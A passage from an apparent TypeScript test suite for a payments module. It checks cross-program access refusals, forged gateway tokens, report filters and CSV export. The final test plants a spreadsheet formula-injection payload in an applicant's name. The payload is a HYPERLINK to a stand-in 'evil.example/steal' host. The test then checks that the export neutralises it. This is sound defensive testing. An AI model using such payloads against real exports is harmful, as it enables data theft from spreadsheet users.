    const [assessorJwt, otherJwt] = await Promise.all([assessor, await createStaffOfAnotherProgram(db)].map(async (user) => (await signIn(t.app, user)).jwt));
    const reads = [`${PG}/payment/byapplication/${inv.applicationId}`, `${PG}/payment/${trackerId}`, `${PG}/payment/${paymentId}`, `${PG}/payment/${trackerId}/trackerdata`];
    for (const url of reads) {
      const refused = await get(url, otherJwt!);
      expect([url, refused.statusCode]).toEqual([url, 403]);
      expect(refused.body).not.toContain(trackerId);
      expect([url, (await get(url, assessorJwt!)).statusCode]).toEqual([url, 200]);
      expect([url, (await get(url, inv.jwt)).statusCode]).toEqual([url, 200]);
    }
    expect((await post(`${PG}/afterpayment/callback`, { trackerId }, otherJwt!)).statusCode).toBe(403);
  });

  it('the test gateway page needs the signed token', async () => {
    const inv = await invoiced();
    const trackerId = await openLink(inv);
    const { sessionId, token } = await startCheckout(inv, trackerId);
    const forged = `${token.split('.')[0]}.${'0'.repeat(64)}`;
    expect((await t.app.inject({ method: 'GET', url: `/unauth/testgateway/session/${sessionId}?token=${encodeURIComponent(forged)}` })).statusCode).toBe(404);
    expect((await complete(sessionId, forged, 'paid')).statusCode).toBe(404);
    expect((await paymentRow(trackerId)).status).toBe('Pending');
  });
});

describe('payments report', () => {
  it('lists payments with filters and exports CSV; staff without Reports and applicants are refused', async () => {
    const inv = await invoiced();
    await openLink(inv);
    await post(`${MODULE}/${inv.applicationId}/payment/verified`, { reference: 'BANK-REPORT-1' }, managerJwt);
    const all = await get(`${PG}/all/reports?pageSize=50`, managerJwt);
    expect(all.statusCode, all.body).toBe(200);
    expect(all.json().totalRows).toBeGreaterThan(1);
    const offline = await get(`${PG}/all/reports?gateway=offline&status=Success&pageSize=50`, managerJwt);
    const offlineRows = offline.json().rows as { reference: string; applicationNumber: string; gateway: string }[];
    expect(offlineRows.every((row) => row.gateway === 'offline')).toBe(true);
    expect(offlineRows.some((row) => row.reference === 'BANK-REPORT-1' && row.applicationNumber === inv.applicationNumber)).toBe(true);
    const today = new Intl.DateTimeFormat('en-CA', { timeZone: 'Australia/Sydney' }).format(new Date());
    const todays = await get(`${PG}/all/reports?from=${today}&to=${today}&gateway=offline&pageSize=50`, managerJwt);
    expect((todays.json().rows as { reference: string }[]).some((row) => row.reference === 'BANK-REPORT-1')).toBe(true);
    const future = await get(`${PG}/all/reports?from=2099-01-01`, managerJwt);
    expect(future.json()).toMatchObject({ totalRows: 0, rows: [] });
    const otherProgram = await get(`${PG}/all/reports?programId=00000000-0000-4000-8000-000000000000`, managerJwt);
    expect(otherProgram.json().totalRows).toBe(0);
    expect((await get(`${PG}/all/reports?from=2026-05-02&to=2026-05-01`, managerJwt)).statusCode).toBe(400);
    expect((await get(`${PG}/all/reports?unknown=1`, managerJwt)).statusCode).toBe(400);

    const programs = await get(`${PG}/all/reports/programs`, managerJwt);
    expect(programs.json()).toContainEqual({ id: programId, programCode, programTitle: 'Welding Inspector' });

    const csv = await get(`${PG}/all/reports/csv?gateway=offline`, managerJwt);
    expect(csv.statusCode).toBe(200);
    expect(csv.headers['content-type']).toContain('text/csv');
    const lines = csv.body.replace(/^\uFEFF/, '').trim().split('\n');
    expect(lines[0]).toBe('Date (Sydney),Invoice,Application,Applicant,Program,Amount,GST,Discount,Gateway,Reference,Gateway Checkout ID,Status');
    const line = lines.find((l) => l.includes('BANK-REPORT-1'));
    // The day as people read dates (issue 45 item 9); an offline payment has no gateway checkout.
    expect(line).toMatch(new RegExp(`^\\d{2}-[A-Z][a-z]{2}-\\d{4} \\d{2}:\\d{2} [AP]M,INV-\\d{6},${inv.applicationNumber},Pat Payer,${programCode} Welding Inspector,350\\.00,31\\.82,0\\.00,Offline \\(bank transfer\\),BANK-REPORT-1,,Success$`));

    // Paid through the gateway: the reference a person reads is the charge's id, as the receipt names it;
    // the checkout's id has its own column, and the gateway's stored state is in neither (issue 45 item 10).
    const byGateway = await invoiced();
    const { sessionId, token } = await startCheckout(byGateway, await openLink(byGateway));
    expect((await complete(sessionId, token, 'paid')).statusCode).toBe(200);
    const gatewayCsv = parse((await get(`${PG}/all/reports/csv?gateway=test&status=Success`, managerJwt)).body, { bom: true, columns: true }) as Record<string, string>[];
    const paidRow = gatewayCsv.find((row) => row['Application'] === byGateway.applicationNumber);
    expect(paidRow).toMatchObject({ Gateway: 'Test gateway', 'Gateway Checkout ID': sessionId, Reference: expect.stringMatching(/^tch_[0-9a-f]+$/) });
    expect(Object.values(paidRow!).join(',')).not.toContain(';');

    const noReports = await createUser(t.database.db, { role: ROLES.AccountContributor, menuItems: ['Programs'] });
    const noReportsJwt = (await signIn(t.app, noReports)).jwt;
    expect((await get(`${PG}/all/reports`, noReportsJwt)).statusCode).toBe(403);
    expect((await get(`${PG}/all/reports/csv`, noReportsJwt)).statusCode).toBe(403);
    expect((await get(`${PG}/all/reports`, inv.jwt)).statusCode).toBe(403);
    expect((await get(`${PG}/all/reports/programs`, noReportsJwt)).statusCode).toBe(403);
  });
});

describe('payments report CSV in a spreadsheet (security review, issue 15 item 10)', () => {
  it('writes a name or reference that would start a formula as quoted text, and amounts as numbers', async () => {
    const formula = '=HYPERLINK("http://evil.example/steal","Open invoice")';
    const applicant = await createUser(t.database.db, { role: ROLES.Applicant, firstName: formula, lastName: 'Payer' });
    const inv = await invoiced({ applicant });
    await openLink(inv);
    const verified = await post(`${MODULE}/${inv.applicationId}/payment/verified`, { reference: '@SUM(1+1) BANK-FORMULA-1' }, managerJwt);
    expect(verified.statusCode, verified.body).toBe(200);

    const csv = await get(`${PG}/all/reports/csv?gateway=offline`, managerJwt);
    expect(csv.statusCode).toBe(200);
    const [header, ...rows] = parse(csv.body, { bom: true }) as string[][];
    const applicantAt = header?.indexOf('Applicant') ?? -1;
    const row = rows.find((cells) => cells.some((cell) => cell.includes('BANK-FORMULA-1')));
    expect(row?.[applicantAt]).toBe(`'${formula} Payer`);
    expect(row).toContain("'@SUM(1+1) BANK-FORMULA-1");
    expect(row?.[header?.indexOf('Amount') ?? -1]).toBe('350.00');
    // No cell of the whole file starts a formula.
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell))).toEqual([]);
  });
});
